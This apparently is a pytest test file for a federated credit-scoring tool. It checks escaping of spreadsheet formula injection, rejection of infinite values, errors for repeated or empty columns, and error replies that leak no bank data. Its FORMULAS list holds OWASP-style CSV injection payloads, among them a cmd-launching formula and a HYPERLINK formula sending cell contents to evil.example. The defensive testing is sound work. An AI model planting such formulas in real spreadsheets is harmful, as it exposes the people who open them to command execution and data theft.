"""Tables from a careless or hostile data supplier, through `data check`, `score`,
`portfolio` and `simulate --data`: each gives a clean one-line error or a correct,
escaped output.

Before: applicant ids such as `=cmd|' /C calc'!A0` went unescaped into scores.csv and the
rejects file (spreadsheet formula injection); an exposure of `inf` was scored as expected
loss `inf`; a repeated column was silently renamed (`income.1`) and the first copy used; a
column without a single value passed `data check`; `simulate --data` on a table failing
its contract ran every bank, which answered only "bank failed (see the bank's log)".
"""

from __future__ import annotations

import csv
import math
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from conftest import run_cli
from flwr.app import Context, Message, RecordDict
from flwr.common import GetParametersIns
from flwr.common.constant import MessageTypeLegacy
from flwr.compat.common import recorddict_compat as compat
from flwr.supercore.task_identity import TaskIdentity

from fedrisk.client.client_app import app
from fedrisk.config import RunConfig
from fedrisk.data import (
    CategoricalFeature,
    Contract,
    DataError,
    NumericFeature,
    check_table_file,
    split_table_file,
)
from fedrisk.models import ModelSpec, build_model, model_arrays, save_model
from fedrisk.privacy.policy import BankPolicy
from fedrisk.risk import portfolio_loss, score_applicants

# What a hostile supplier puts in an id (OWASP's examples) and where a spreadsheet runs it.
FORMULAS = ["=cmd|' /C calc'!A0", '+HYPERLINK("http://evil.example/?x="&A1,"Open")',
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")  # OWASP's rule, restated independently
SECRET = "=SECRET-4471"  # a value in a bank's rows that must never reach the coordinator


def contract() -> Contract:
    return Contract(
        name="loans", target="default", positive_label="yes",
        numeric=(NumericFeature("income", 0, 1000, 500, 100, 400),
                 NumericFeature("amount", 0, 50_000, 5_000, 1_000, 5_000)),
        categorical=(CategoricalFeature("region", ("north", "south")),),
        drop=("applicant_id", "loan_id"), protected=(), exposure="amount",
        prior_default_rate=0.2)


def table(n_rows: int = 40, seed: int = 0) -> pd.DataFrame:
    rng = np.random.default_rng(seed)
    return pd.DataFrame({
        "applicant_id": [f"A{i:03d}" for i in range(n_rows)],
        "income": rng.uniform(100, 900, n_rows).round(1),
        "amount": rng.uniform(1_000, 9_000, n_rows).round(0),
        "region": rng.choice(["north", "south"], n_rows),
        "default": [("yes", "no", "no", "no")[i % 4] for i in range(n_rows)],
    })


@pytest.fixture(scope="module")
def run_dir(tmp_path_factory) -> Path:
    """A run directory as `fedrisk simulate` writes it (an untrained model is enough here)."""
    directory = tmp_path_factory.mktemp("hostile_run")
    spec = ModelSpec("mlp", contract().n_features, (8,), 0.2)
    save_model(directory / "model.safetensors", spec, model_arrays(build_model(spec)))
    (directory / "data").mkdir()
    contract().save(directory / "data" / "contract.toml")
    return directory


@pytest.fixture
def contract_file(tmp_path: Path) -> Path:
    contract().save(tmp_path / "contract.toml")
    return tmp_path / "contract.toml"


def csv_cells(path: Path) -> list[list[str]]:
    """Every cell of a CSV file as a spreadsheet receives it (header included)."""
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def runnable(cell: str) -> bool:
    """Would a spreadsheet run this cell as a formula? (A plain number is a number.)"""
    try:
        float(cell)
    except ValueError:
        return cell.startswith(FORMULA_PREFIXES)
    return False


# ----- formula injection ------------------------------------------------------------


def test_scores_and_rejects_cannot_run_as_spreadsheet_formulas(run_dir, tmp_path):
    applicants = table(len(FORMULAS) + 3).drop(columns="default").astype({"income": object})
    # A carriage return inside a cell ends a row where the cell is not quoted: "=1+1"
    # would start a row of its own.
    applicants["applicant_id"] = [*FORMULAS, "A1\r=1+1", "-1.5", "@rejected"]
    applicants.loc[len(FORMULAS) + 2, "income"] = "=HYPERLINK(\"http://evil.example\")"
    applicants["=notes()"] = "-1+1"  # a hostile extra column: its name and cells
    applicants["delta"] = -1.5  # a numeric column: negative numbers stay numbers
    applicants.to_csv(tmp_path / "applicants.csv", index=False, lineterminator="\r\n")

    result = score_applicants(run_dir, tmp_path / "applicants.csv", tmp_path / "scores.csv")

    assert (result.n_scored, result.n_rejected) == (len(FORMULAS) + 2, 1)
    for path in (result.output_path, result.rejects_path):
        cells = csv_cells(path)
        assert not [cell for row in cells for cell in row if runnable(cell)], path
    ids = [row[1] for row in csv_cells(result.output_path)[1:]]
    assert ids == ["'" + f for f in FORMULAS] + ["A1\r=1+1", "-1.5"]  # otherwise exact
    header, reject = csv_cells(result.rejects_path)
    assert "'=notes()" in header and reject[header.index("applicant_id")] == "'@rejected"
    assert reject[header.index("income")] == "'=HYPERLINK(\"http://evil.example\")"
    assert reject[header.index("delta")] == "-1.5"
    assert pd.read_csv(result.output_path)["pd"].between(0, 1).all()  # numbers stay numbers


def test_loss_contributions_and_book_rejects_cannot_run_as_formulas(run_dir, tmp_path):
    book = table(len(FORMULAS)).drop(columns="default").rename(columns={"applicant_id": "loan_id"})
    book["loan_id"] = FORMULAS
    book.to_csv(tmp_path / "book.csv", index=False, lineterminator="\r\n")
    result = portfolio_loss(run_dir, tmp_path / "book.csv", scenarios=1_000,
                            output_dir=tmp_path / "portfolio")
    cells = csv_cells(result.contributions_path)
    assert not [cell for row in cells for cell in row if runnable(cell)]
    assert sorted(row[1] for row in cells[1:]) == sorted("'" + f for f in FORMULAS)

    book.loc[0, "amount"] = -5.0  # a bad loan: the book is refused, its rejects listed
    book.to_csv(tmp_path / "bad_book.csv", index=False, lineterminator="\r\n")
    with pytest.raises(DataError, match="1 of 6 loans fail the contract"):
        portfolio_loss(run_dir, tmp_path / "bad_book.csv", scenarios=1_000,
                       output_dir=tmp_path / "bad")
    cells = csv_cells(tmp_path / "bad" / "book.rejects.csv")
    assert not [cell for row in cells for cell in row if runnable(cell)]


def test_bank_tables_fedrisk_reads_back_are_written_exactly(tmp_path):
    """`data split` (and a simulation's bank files): exempt, the bank trains on them as they are."""
    pooled = table(80)
    pooled["applicant_id"] = [FORMULAS[i % len(FORMULAS)] + "\rx" for i in range(80)]
    pooled["branch"] = ["=north", "-south"] * 40
    pooled.to_csv(tmp_path / "pooled.csv", index=False, lineterminator="\r\n")
    written = split_table_file(tmp_path / "pooled.csv", by="branch", out_dir=tmp_path / "banks",
                               min_rows=10)
    assert len(written) == 2
    back = pd.concat([pd.read_csv(p, keep_default_na=False) for p in written.values()])
    assert sorted(back["applicant_id"]) == sorted(pooled["applicant_id"])  # not escaped


# ----- non-finite values, repeated and empty columns -----------------------------------


def test_an_infinite_exposure_is_rejected_with_its_reason_and_clip_really_clips(run_dir,
                                                                                 tmp_path):
    applicants = table(6).drop(columns="default").astype({"amount": object, "income": object})
    applicants.loc[0, "amount"] = "inf"
    applicants.loc[1, "amount"] = "-inf"
    applicants.loc[3] = applicants.loc[2]
    applicants.loc[2, "income"] = "inf"  # a feature: clipped to 1000, as the warning says
    applicants.loc[3, "income"] = 1000.0  # the same applicant at the bound
    applicants.to_csv(tmp_path / "applicants.csv", index=False)

    result = score_applicants(run_dir, tmp_path / "applicants.csv", tmp_path / "scores.csv",
                              with_reasons=False)

    assert list(result.rejects["row"]) == [0, 1]
    assert all("not a finite amount" in r and "'amount'" in r for r in result.rejects["reason"])
    assert np.isfinite(result.scores["expected_loss"]).all()
    pd_by_row = result.scores.set_index("row")["pd"]
    assert math.isclose(pd_by_row[2], pd_by_row[3], rel_tol=1e-6)
    assert any("'income'" in w and "clipped" in w for w in result.warnings)


def test_a_repeated_column_is_an_error_naming_it(run_dir, contract_file, tmp_path):
    lines = table().to_csv(index=False).splitlines()
    lines = [lines[0] + ",income"] + [line + ",5" for line in lines[1:]]
    (tmp_path / "repeated.csv").write_text("\n".join(lines) + "\n")

    report = check_table_file(tmp_path / "repeated.csv", contract_file)
    assert report.errors == [f"{tmp_path / 'repeated.csv'}: column 'income': appears more than "
                             "once (40 rows)"]
    with pytest.raises(DataError, match="column 'income' appears more than once"):
        score_applicants(run_dir, tmp_path / "repeated.csv")


@pytest.mark.parametrize("column", ["income", "amount", "region"])
def test_a_column_without_a_single_value_is_an_error_naming_it(run_dir, contract_file, tmp_path,
                                                               column):
    lost = table().assign(**{column: np.nan})
    lost.to_csv(tmp_path / "lost.csv", index=False)

    report = check_table_file(tmp_path / "lost.csv", contract_file)
    assert report.errors == [f"{tmp_path / 'lost.csv'}: column '{column}': has no value in any "
                             "row (every cell is empty: was the column lost?) (40 rows)"]
    with pytest.raises(DataError, match=f"column '{column}': has no value in any row"):
        score_applicants(run_dir, tmp_path / "lost.csv")


def test_data_check_on_a_lost_column_exits_2_with_one_line_per_problem(contract_file, tmp_path):
    table().assign(amount=np.nan).to_csv(tmp_path / "lost.csv", index=False)
    check = run_cli("data", "check", str(tmp_path / "lost.csv"), "--contract",
                    str(contract_file))
    assert check.returncode == 2, check.stdout + check.stderr
    assert "Traceback" not in check.stderr
    lost = [line for line in (check.stdout + check.stderr).splitlines() if "'amount'" in line]
    assert len(lost) == 1 and "has no value in any row" in lost[0]  # not also "imputed"


def test_one_applicant_with_a_missing_value_is_still_scored(run_dir, tmp_path):
    table(1).drop(columns="default").assign(income=np.nan).to_csv(tmp_path / "one.csv",
                                                                  index=False)
    assert score_applicants(run_dir, tmp_path / "one.csv", with_reasons=False).n_scored == 1


# ----- simulate --data and the banks' answer ---------------------------------------------


def test_simulate_on_a_table_failing_its_contract_is_one_line_before_any_bank_starts(
        contract_file, tmp_path):
    bad = table(300).astype({"income": object})
    bad.loc[range(0, 300, 25), "income"] = SECRET  # 12 non-numeric cells in one column
    bad.to_csv(tmp_path / "bad.csv", index=False)
    output = tmp_path / "run"
    started = time.monotonic()
    result = run_cli("simulate", "--data", str(tmp_path / "bad.csv"), "--contract",
                     str(contract_file), "--banks", "3", "--rounds", "1",
                     "--output-dir", str(output), timeout=300)
    seconds = time.monotonic() - started
    assert result.returncode == 2, result.stdout + result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in result.stderr
    assert "column 'income': non-numeric values" in lines[0] and "(12 rows)" in lines[0]
    assert not (output / "banks").exists() and not (output / "app").exists()  # no bank ran
    assert seconds < 120


def context_for(folder: Path) -> Context:
    TaskIdentity.run_id, TaskIdentity.task_id, TaskIdentity.node_id = 1, 1, 0
    node_config = {"bank-id": "west", "data-path": str(folder / "bank.csv"),
                   "contract-path": str(folder / "contract.toml"),
                   "state-dir": str(folder / "state"),
                   "policy-path": str(folder / "bank-policy.toml")}
    BankPolicy.simulation_default(0, 0.2).save(folder / "bank-policy.toml")
    config = RunConfig(num_server_rounds=1, personalization="none", output_dir=str(folder))
    return Context(run_id=1, node_id=1, node_config=node_config, state=RecordDict(),
                   run_config=config.to_run_config())


def first_message() -> Message:
    content = compat.getparametersins_to_recorddict(GetParametersIns({}))
    return Message(content=content, dst_node_id=1, message_type=MessageTypeLegacy.GET_PARAMETERS,
                   group_id="0")


BANK_TABLES = {
    "non-numeric": (lambda t: t.astype({"income": object}).assign(income=[SECRET] * 40),
                    "column 'income': non-numeric values in a numeric column"),
    "missing column": (lambda t: t.rename(columns={"income": "Income" + SECRET}),
                       "column 'income': missing from the table"),
    "repeated extra column": (lambda t: pd.concat([t, t[["applicant_id"]]], axis=1),
                              "a column: appears more than once"),
    "empty column": (lambda t: t.assign(amount=np.nan), "column 'amount': has no value in any row"),
    "single class": (lambda t: t.assign(default=SECRET),
                     "column 'default': single class (a bank needs both)"),
}


@pytest.mark.parametrize("kind", BANK_TABLES)
def test_a_bank_whose_table_fails_says_which_check_and_column_and_no_value(tmp_path, kind):
    make, public = BANK_TABLES[kind]
    make(table()).to_csv(tmp_path / "bank.csv", index=False)
    contract().save(tmp_path / "contract.toml")
    context = context_for(tmp_path)
    reply = app(first_message(), context)
    assert reply.has_error() and not reply.has_content()
    assert reply.error.reason == f"bank west: its table fails the contract: {public}"
    assert "SECRET" not in reply.error.reason and str(tmp_path) not in reply.error.reason
    assert not (tmp_path / "state" / "ledgers").exists()  # refused before opening its ledger
